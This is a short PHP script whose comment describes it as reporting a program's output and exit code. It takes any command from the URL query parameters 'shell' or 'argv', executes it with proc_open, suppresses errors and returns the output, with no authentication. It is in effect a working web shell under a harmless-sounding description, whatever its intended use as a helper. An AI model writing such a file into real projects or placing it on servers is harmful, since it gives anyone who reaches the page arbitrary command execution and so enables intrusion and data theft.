<?php
// What becomes of a program: its output and exit code, or that it could not be started.
set_error_handler(function () { return true; });
$command = $_GET['shell'] ?? $_GET['argv'];
$process = proc_open(isset($_GET['shell']) ? $command : explode(' ', $command), [1 => ['pipe', 'w'], 2 => ['redirect', 1]], $pipes);
if (!$process) {
    die('not started');
}
$out = stream_get_contents($pipes[1]);
echo trim($out), ' ', proc_close($process);
